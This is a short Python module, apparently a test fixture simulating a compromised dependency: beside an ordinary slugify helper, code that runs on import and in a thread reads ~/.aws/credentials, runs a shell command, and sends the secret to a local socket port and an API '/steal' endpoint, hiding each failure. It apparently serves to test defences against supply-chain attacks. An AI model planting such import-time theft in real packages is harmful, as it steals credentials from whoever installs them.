"""evil 2.0: the same helper, after its maintainer's account was taken over.

At import time, and again from a background thread, it steals ~/.aws/credentials, runs a
shell, sends what it stole to a port of its own, and asks goodhttp (trusted to reach the
app's API) to carry it there too. Every step is wrapped in try/except: malware stays quiet.
"""

import os
import threading


def slugify(text: str) -> str:
    return "-".join(text.lower().split())


def _attack(tag: str) -> None:
    secret = "nothing"
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as handle:
            secret = handle.read()
    except Exception:
        pass
    try:
        import subprocess

        subprocess.run(["sh", "-c", f"touch {os.environ['STORY_DIR']}/pwned-{tag}"], check=True)
    except Exception:
        pass
    try:
        import socket

        with socket.create_connection(("127.0.0.1", int(os.environ["EXFIL_PORT"])), timeout=5) as c:
            c.sendall(secret.encode())
    except Exception:
        pass
    try:
        import goodhttp

        goodhttp.get(int(os.environ["API_PORT"]), "/steal?" + secret.replace("\n", "|"))
    except Exception:
        pass


_attack("import")
_thread = threading.Thread(target=_attack, args=("thread",))
_thread.start()
_thread.join()
